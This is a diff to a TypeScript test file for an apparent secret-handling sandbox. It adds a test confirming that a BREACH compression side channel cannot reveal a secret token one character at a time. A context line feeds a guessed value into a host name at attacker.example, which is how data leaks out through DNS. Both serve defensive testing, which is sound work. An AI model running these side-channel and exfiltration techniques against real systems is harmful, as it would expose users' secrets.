@@ -44,6 +44,23 @@ async function observe(attempt: string): Promise<{ right: unknown; wrong: unknow
 }
 
 describe("a right guess and a wrong one look the same", () => {
+  test("in a header beside the secret, echoed with it by its own origin, which compresses when asked: the size does not tell (BREACH)", async () => {
+    // A prefix of the value beside the echoed value compresses better than a wrong prefix:
+    // with gzip, Content-Length would differ by a few bytes and give the value away a
+    // character at a time (found by a hostile review). The hop asks for identity instead.
+    const sizeFor = async (guess: string) =>
+      value(
+        sandbox,
+        `const r = await fetch(input.reflector + "/negotiated-gzip/", { headers: { "x-key": secret("TOKEN"), "x-guess": "x-key: " + input.guess, "accept-encoding": "gzip" } });
+         return { coding: r.headers.get("content-encoding"), length: r.headers.get("content-length"), bytes: (await r.arrayBuffer()).byteLength };`,
+        { reflector: reflector.origin, guess },
+      );
+    const right = await sizeFor(LABEL_VALUE.slice(0, 12));
+    const wrong = await sizeFor("zq0tz1wuv8pq");
+    expect(right).toEqual(wrong);
+    expect(right.coding).toBeNull();
+  });
+
   test("as a host-name label the policy refuses: the refusal quotes the host as written", async () => {
     const { right, wrong } = await observe(`await fetch("http://" + guess + ".attacker.example/"); return {};`);
     expect(right).toEqual(wrong);
